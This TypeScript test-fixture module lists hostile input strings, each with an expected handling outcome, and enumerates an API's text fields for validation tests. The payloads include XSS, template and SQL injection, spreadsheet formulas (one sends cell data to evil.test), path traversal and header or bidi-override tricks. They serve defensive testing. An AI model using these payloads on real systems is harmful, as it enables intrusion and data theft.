import type * as z from 'zod/mini'
import type { Endpoint } from '../api/endpoint.ts'
import { endpoints } from '../api/endpoints.ts'

interface Hostile {
  readonly text: string
  /** `rejected`: no field accepts it. `inert`: it is stored and shown as plain text. `cleaned`: its invisible characters are removed. */
  readonly outcome: 'rejected' | 'inert' | 'cleaned'
}

/** Malicious or tricky text by class, with what must happen to it. */
export const hostile = {
  html: { text: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>', outcome: 'inert' },
  attribute: { text: `" onmouseover="window.pwned=1" x='`, outcome: 'inert' },
  template: { text: '{{constructor.constructor("window.pwned=1")()}} ${7*7} <%= 7*7 %>', outcome: 'inert' },
  sql: { text: `Robert'); DROP TABLE users; -- " or 1=1`, outcome: 'inert' },
  formula: { text: '=HYPERLINK("http://evil.test?"&A1,"x")', outcome: 'inert' },
  plus: { text: '+1+cmd|calc', outcome: 'inert' },
  at: { text: '@SUM(1+1)*cmd|calc', outcome: 'inert' },
  minus: { text: '-2+3+cmd|calc', outcome: 'inert' },
  path: { text: '../../../etc/passwd', outcome: 'inert' },
  emoji: { text: '👩‍🚒👨‍👩‍👧‍👦 José', outcome: 'inert' },
  combining: { text: `Z${'\u0335\u0336\u0337'.repeat(6)}algo`, outcome: 'inert' },
  arabic: { text: 'محمد بن سلمان', outcome: 'inert' },
  unbroken: { text: 'W'.repeat(58), outcome: 'inert' },
  lines: { text: 'Client\r\nBcc: everyone@evil.test', outcome: 'rejected' },
  newline: { text: 'Client\nX-Injected: yes', outcome: 'rejected' },
  nul: { text: 'Client\u0000', outcome: 'rejected' },
  escape: { text: '\u001b[31mClient', outcome: 'rejected' },
  override: { text: 'Client \u202egnp.exe', outcome: 'rejected' },
  embedding: { text: 'Client \u202ax\u202c', outcome: 'rejected' },
  isolate: { text: 'Cl\u2066ie\u2069nt', outcome: 'cleaned' },
  zeroWidth: { text: 'Cli\u200bent\ufeff', outcome: 'cleaned' },
  softHyphen: { text: 'Cli\u00adent', outcome: 'cleaned' },
  wrapped: { text: '\u2068Client\u2069\u200e', outcome: 'cleaned' },
  separator: { text: 'Client\u2028x', outcome: 'rejected' },
  tag: { text: 'Client\u{e0041}', outcome: 'rejected' },
} as const satisfies Record<string, Hostile>
export type HostileName = keyof typeof hostile
export const hostileNames = Object.keys(hostile) as HostileName[]

interface Def {
  type: string
  innerType?: z.ZodMiniType
  in?: z.ZodMiniType
  element?: z.ZodMiniType
  options?: z.ZodMiniType[]
  shape?: Record<string, z.ZodMiniType>
}

const defOf = (schema: z.ZodMiniType): Def => schema.def as unknown as Def

/** Whether a schema accepts free text. */
const takesText = (schema: z.ZodMiniType): boolean => {
  const { type, innerType, in: input, element, options = [] } = defOf(schema)
  const inner = innerType ?? input ?? element
  return type === 'string' || (inner !== undefined && takesText(inner)) || options.some(takesText)
}

export interface TextField {
  /** `POST /api/crash-reports body.clientName`. */
  readonly name: string
  readonly schema: z.ZodMiniType
  /** Whether its values are arrays. */
  readonly many: boolean
}

const fieldsIn = (name: string, schema: z.ZodMiniType): TextField[] =>
  Object.entries(defOf(schema).shape ?? {}).flatMap(([field, one]) => {
    const objects = (defOf(one).options ?? []).filter((option) => defOf(option).shape)
    const of = objects.flatMap((option) => fieldsIn(`${name}.${field}`, option))
    if (of.length > 0) return of.filter((text, at) => of.findIndex((other) => other.name === text.name) === at)
    return takesText(one) ? [{ name: `${name}.${field}`, schema: one, many: defOf(one).type === 'array' }] : []
  })

/** Every body and query field of every endpoint that accepts text, also of the one of several objects that a field takes. */
export const textFields: readonly TextField[] = (Object.values(endpoints) as Endpoint[]).flatMap(
  ({ method, path, body, query }) =>
    Object.entries({ body, query }).flatMap(([part, schema]) =>
      schema ? fieldsIn(`${method} ${path} ${part}`, schema) : [],
    ),
)

/** The parsed value of a text; undefined when the field rejects it. */
export const parseField = ({ schema, many }: TextField, text: string): unknown =>
  schema.safeParse(many ? [text] : text).data

// These are only compared with stored values, never stored or shown.
// The last one is only compared with what is stored.
const neverDisplayed = /\.(\w*[pP]assword|\w*[tT]oken|invite|auth|lawFirmId|replaces)$/

/** The fields whose text may be stored, searched and shown. */
export const displayedFields = textFields.filter(({ name }) => !neverDisplayed.test(name))
